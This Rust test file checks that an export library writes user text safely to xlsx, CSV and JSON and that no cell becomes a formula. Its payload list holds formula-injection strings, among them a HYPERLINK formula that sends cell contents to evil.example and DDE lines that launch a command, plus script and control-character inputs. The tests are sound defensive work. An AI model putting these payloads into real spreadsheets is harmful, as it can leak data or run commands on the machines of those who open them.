//! Texts that would like to be something else.

use calamine::Data;
use scan::figures::Figures;
use scan_export::{Dialect, json, xlsx};
use serde_json::Value;

use crate::csv;
use crate::figures_sample::full;
use crate::xlsx_readers::{Book, Workbook};

/// Most UTF-16 units of a cell in Excel.
const CELL_MAX: usize = 32_767;

fn payloads() -> Vec<String> {
    let mut texts: Vec<String> = [
        "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"klik\")",
        "@SUM(1)",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        " \u{a0}=1+1",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "=1;=2,=3\"=4",
        "https://evil.example/?a=1&b=2",
        "mailto:x@evil.example",
        "<script>alert(1)</script> & </t></si> ]]>",
        "een\u{0}\u{1}\u{8}\u{b}\u{1b}[31mtwee\u{7f}\u{fffe}",
        "_x003D_1+1",
        "\u{202e}txet\u{202c} עברית \u{200f}",
        "\u{feff}=1+1",
        "👩🏽‍🏫 🏳️‍🌈 𝒳 e\u{301}",
        "\"quoted\" 'single' „laag”",
        "een\ntwee\r\ndrie;vier,vijf\n",
        "TRUE",
        "1,5",
        "2026-11-12",
        "{=1+1}",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("lang ".repeat(2_000));
    texts.push("é".repeat(10_000));
    texts.push("😀".repeat(20_000));
    texts
}

/// The keys of texts that people and authors of lists write.
const TEXTS: [&str; 20] = [
    "school",
    "team",
    "list",
    "list_version",
    "sector",
    "extent",
    "title",
    "text",
    "area_title",
    "topic_title",
    "group",
    "answer",
    "priority",
    "reason",
    "what",
    "who",
    "for_whom",
    "supplier",
    "about",
    "offer",
];

/// The figures with other texts; `next` gives one for each.
fn filled(next: &mut dyn FnMut() -> String) -> Figures {
    fn fill(value: &mut Value, next: &mut dyn FnMut() -> String) {
        match value {
            Value::Array(values) => values.iter_mut().for_each(|value| fill(value, next)),
            Value::Object(values) => {
                for (name, value) in values {
                    if TEXTS.contains(&name.as_str()) {
                        *value = Value::String(next());
                    } else {
                        fill(value, next);
                    }
                }
            }
            _ => {}
        }
    }
    let mut value = serde_json::to_value(full()).unwrap();
    fill(&mut value, next);
    for label in value["scale"].as_array_mut().unwrap() {
        *label = Value::String(next());
    }
    serde_json::from_value(value).unwrap()
}

/// Everywhere the same text, in few rows.
fn everywhere(text: &str) -> Figures {
    let mut figures = filled(&mut || text.to_owned());
    figures.items.truncate(3);
    figures.topics.truncate(2);
    figures.groups.truncate(2);
    figures.changes.truncate(2);
    figures.agreed.truncate(2);
    figures
}

/// The short ones in turn.
fn short() -> Figures {
    let short = payloads().into_iter().filter(|text| text.len() < 200);
    let mut turn = short.collect::<Vec<_>>().into_iter().cycle();
    filled(&mut || turn.next().unwrap())
}

/// What of a text can stand in XML: written anew, in another way than the product does it.
fn as_text(text: &str) -> String {
    let mut kept = String::new();
    let mut characters = text.chars().peekable();
    while let Some(c) = characters.next() {
        match c {
            '\r' if characters.peek() == Some(&'\n') => {}
            '\r' => kept.push('\n'),
            '\t' | '\n' => kept.push(c),
            '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{fffe}' | '\u{ffff}' => {}
            c => kept.push(c),
        }
    }
    kept
}

fn cut(text: &str) -> String {
    let units: Vec<u16> = text.encode_utf16().collect();
    if units.len() <= CELL_MAX {
        return text.to_owned();
    }
    let kept: String = char::decode_utf16(units[..CELL_MAX - 1].iter().copied())
        .filter_map(Result::ok)
        .collect();
    kept + "…"
}

#[test]
fn every_text_is_a_text_in_a_workbook() {
    for payload in payloads() {
        let mut book = Book::read(xlsx(&everywhere(&payload)).unwrap());
        let expected = cut(&as_text(&payload));
        assert_eq!(book.formulas(), [""; 0], "{payload:?}");
        let vragen = book.sheet("Vragen");
        for row in 1..=3 {
            assert_eq!(
                vragen[(row, 1)],
                Data::String(expected.clone()),
                "{payload:?}"
            );
        }
        let found = book.sheets();
        let same = found.iter().flat_map(|sheet| sheet.used_cells());
        let same = same.filter(|(_, _, cell)| **cell == Data::String(expected.clone()));
        // Facts, areas, topics, items, labels, roles, changes, answers, needs and actions.
        assert!(same.count() > 50, "{payload:?}");
    }
}

/// One cell that begins like a formula and is not marked becomes one as soon as it is edited.
#[test]
fn a_cell_that_begins_like_a_formula_stays_a_text_when_edited() {
    let script = "import json, re, sys, zipfile
from xml.etree import ElementTree
N = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
with zipfile.ZipFile(sys.argv[1]) as package:
    styles = ElementTree.fromstring(package.read('xl/styles.xml'))
    marked = [xf.get('quotePrefix') == '1' for xf in styles.find(N + 'cellXfs')]
    strings = [''.join(t.text or '' for t in si.iter(N + 't'))
               for si in ElementTree.fromstring(package.read('xl/sharedStrings.xml'))]
    open_cells = []
    for name in package.namelist():
        if name.startswith('xl/worksheets/sheet'):
            for cell in ElementTree.fromstring(package.read(name)).iter(N + 'c'):
                if cell.get('t') == 's':
                    text = strings[int(cell.find(N + 'v').text)]
                    if text[:1] in ('=', '+', '-', '@') and not marked[int(cell.get('s', '0'))]:
                        open_cells.append(name + ' ' + cell.get('r'))
    print(json.dumps(open_cells))";
    let file = Workbook::of(&everywhere("=1+1"));
    assert_eq!(file.python::<Vec<String>>(script), [""; 0]);
}

#[test]
fn every_text_is_a_text_in_separated_values() {
    let all = payloads();
    let mut turn = all.iter().cycle();
    let figures = filled(&mut || turn.next().unwrap().clone());
    // What begins like a formula, also after what nobody sees, has an apostrophe.
    let expected = |payload: &str| {
        let text = as_text(payload);
        let unseen = |c: char| c.is_whitespace() || "\u{feff}\u{202e}".contains(c);
        let first = text.trim_start_matches(unseen);
        let formula = first.starts_with(['=', '+', '-', '@', '＝']);
        if formula { format!("'{text}") } else { text }
    };
    for dialect in [Dialect::Dutch, Dialect::Plain] {
        let rows = csv::read(&figures, dialect);
        assert_eq!(rows.len(), figures.items.len() + 1);
        for (cells, row) in rows[1..].iter().zip(&figures.items) {
            assert_eq!(cells.len(), rows[0].len());
            assert_eq!(cells[0], row.number.to_string());
            for (cell, text) in [(1, &row.text), (3, &row.area_title), (4, &row.topic_title)] {
                assert_eq!(cells[cell], expected(text));
            }
        }
    }
}

#[test]
fn every_text_is_itself_in_json() {
    for payload in payloads() {
        let figures = everywhere(&payload);
        let bytes = json(&figures).unwrap();
        let read: Figures = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(read, figures);
        assert_eq!(read.items[0].text, payload);
    }
}

/// All of them in one workbook, and LibreOffice evaluates none.
#[test]
fn libreoffice_shows_them_as_they_are() {
    let figures = short();
    let file = Workbook::of(&figures);
    let sheets = file.shown();
    let (_, vragen) = sheets.iter().find(|(name, _)| name == "Vragen").unwrap();
    assert_eq!(vragen.len(), figures.items.len() + 1);
    for (cells, row) in vragen[1..].iter().zip(&figures.items) {
        assert_eq!(cells[1], as_text(&row.text));
        assert_eq!(cells[4], as_text(&row.topic_title));
    }
    let printed = file.printed();
    assert!(printed.contains("=HYPERLINK") && printed.contains("@SUM(1)"));
}

#[test]
fn libreoffice_evaluates_no_separated_value() {
    let figures = short();
    for dialect in [Dialect::Dutch, Dialect::Plain] {
        let mut book = csv::opened(&figures, dialect);
        assert_eq!(book.formulas(), [""; 0]);
        let sheet = book.sheets().remove(0);
        assert_eq!(sheet.height(), figures.items.len() + 1);
        for (cells, row) in sheet.rows().skip(1).zip(&figures.items) {
            assert!(matches!(cells[0], Data::Float(_)), "{cells:?}");
            if as_text(&row.text)
                .trim_start()
                .starts_with(['=', '+', '-', '@'])
            {
                assert_eq!(cells[1], Data::String(format!("'{}", as_text(&row.text))));
            }
        }
    }
}
